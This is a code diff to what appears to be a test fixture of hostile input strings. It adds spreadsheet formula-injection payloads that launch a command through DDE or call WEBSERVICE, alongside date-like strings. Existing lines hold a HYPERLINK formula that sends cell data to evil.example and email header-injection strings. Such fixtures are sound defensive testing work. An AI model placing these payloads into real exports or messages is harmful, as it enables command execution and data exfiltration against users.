@@ -7,6 +7,17 @@ export const formulas = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b
   (trigger) => `${trigger}HYPERLINK("https://evil.example/?"&A1,"x")`,
 );
 
+/** Begins a formula, or is a date, in a spreadsheet that separates by another sign than ours. */
+const separated = [
+  ...[";", "\t", "|", "\n", "\r", "\r\n"].map((separator) => `x${separator}=1+cmd|' /C calc'!A0`),
+  'x;"=WEBSERVICE(CHAR(104)&A2)";y',
+  'x; \t"\uff1d1"|y',
+  "2-5",
+  "6-10",
+  "24/7",
+  "May 5",
+];
+
 /** Breaks lines, headers, paths, queries or the order of letters, or is no text at all. */
 const breaking = [
   'x\r\nBcc: evil@example.com\r\n\r\n{"level":60,"msg":"forged"}',
@@ -25,7 +36,7 @@ const breaking = [
   `x${"\u0301".repeat(500)}`,
 ];
 
-const ours = [...xssVectors, ...formulas, ...breaking];
+const ours = [...xssVectors, ...formulas, ...separated, ...breaking];
 
 /** All texts of which it is known that they have broken something, without the empty one. */
 export const hostileStrings = [...new Set([...ours, ...naughtyStrings.filter((text) => text !== "")])];
